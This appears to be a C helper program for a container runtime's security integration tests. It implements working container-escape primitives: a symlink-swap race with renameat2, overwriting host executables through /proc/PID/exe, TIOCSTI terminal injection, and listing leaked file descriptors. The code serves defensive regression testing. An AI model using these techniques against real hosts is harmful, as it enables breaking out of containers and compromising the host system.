/*
 * attack.c - what a hostile container or its friend on a shared volume does; for tests/integration/security_*.bats.
 *
 * attack swap TARGET DIRECTORY...: on the host: exchanges each directory with a symlink to TARGET for ever.
 * attack overwrite [NAME]: in a container: opens the executable of every process that appears (where it shares the
 * host's pids: only of those called NAME), and writes to it when nobody executes it any more.  Prints "ready", then
 * "opened COMM", and "WROTE COMM" where it succeeded.
 * attack type: pushes a character into each terminal it has or can open, and prints what the kernel says.
 * attack fds: prints "fd N PATH" for each descriptor that it was given.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <unistd.h>

/* No attacker outlives its test for long. */
#define LIFE_S 60
#define OVERWRITE_TRIES 200

static int swap(const char *target, char **directories)
{
	char link[4096];

	for (char **directory = directories; *directory; directory++) {
		snprintf(link, sizeof(link), "%s.link", *directory);
		if ((mkdir(*directory, 0755) < 0 && errno != EEXIST) || symlink(target, link) < 0) {
			perror(link);
			return 1;
		}
	}
	puts("ready");
	fflush(stdout);
	for (;;) {
		for (char **directory = directories; *directory; directory++) {
			snprintf(link, sizeof(link), "%s.link", *directory);
			(void)renameat2(AT_FDCWD, *directory, AT_FDCWD, link, RENAME_EXCHANGE);
		}
	}
}

/* A descriptor of an executable that is open for reading is opened once more, for writing, by its magic link. */
static void overwrite_one(int pid, const char *wanted)
{
	char path[64], name[32] = "?";
	int fd, comm;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	comm = open(path, O_RDONLY | O_CLOEXEC);
	if (comm >= 0 && read(comm, name, sizeof(name) - 1) > 0)
		name[strcspn(name, "\n")] = '\0';
	close(comm);
	if (wanted && strcmp(name, wanted) != 0) {
		close(fd);
		return;
	}
	printf("opened %s\n", name);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < OVERWRITE_TRIES; i++) {
		int writable = open(path, O_WRONLY | O_CLOEXEC);

		if (writable >= 0 && write(writable, "#!/evil\n", 8) > 0) {
			printf("WROTE %s\n", name);
			i = OVERWRITE_TRIES;
		}
		close(writable);
		usleep(100);
	}
	fflush(stdout);
	close(fd);
}

static _Noreturn void overwrite(const char *wanted)
{
	int last = getpid();

	puts("ready");
	fflush(stdout);
	for (;;) {
		for (int pid = last + 1; pid < last + 8; pid++) {
			char path[32];

			snprintf(path, sizeof(path), "/proc/%d", pid);
			if (access(path, F_OK) < 0)
				continue;
			overwrite_one(pid, wanted);
			last = pid;
		}
	}
}

static void type_into(const char *what, int fd)
{
	char character = 'Z';

	if (fd < 0)
		printf("%s: open: %s\n", what, strerror(errno));
	else
		printf("%s: %s\n", what, ioctl(fd, TIOCSTI, &character) == 0 ? "PUSHED" : strerror(errno));
}

static int type(void)
{
	static const char *const names[] = { "/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0" };
	char what[16];

	for (int fd = 0; fd <= 2; fd++) {
		snprintf(what, sizeof(what), "fd %d", fd);
		type_into(what, fd);
	}
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		type_into(names[i], open(names[i], O_RDWR | O_CLOEXEC));
	return 0;
}

static int fds(void)
{
	DIR *dir = opendir("/proc/self/fd");
	struct dirent *entry;
	char target[4096];

	if (!dir) {
		perror("/proc/self/fd");
		return 1;
	}
	while ((entry = readdir(dir))) {
		ssize_t length = readlinkat(dirfd(dir), entry->d_name, target, sizeof(target) - 1);

		if (length < 0 || atoi(entry->d_name) == dirfd(dir))
			continue;
		target[length] = '\0';
		printf("fd %s %s\n", entry->d_name, target);
	}
	closedir(dir);
	return 0;
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";

	alarm(LIFE_S);
	if (strcmp(mode, "swap") == 0 && argc > 3)
		return swap(argv[2], argv + 3);
	if (strcmp(mode, "overwrite") == 0)
		overwrite(argc > 2 ? argv[2] : NULL);
	if (strcmp(mode, "type") == 0)
		return type();
	if (strcmp(mode, "fds") == 0)
		return fds();
	return 1;
}
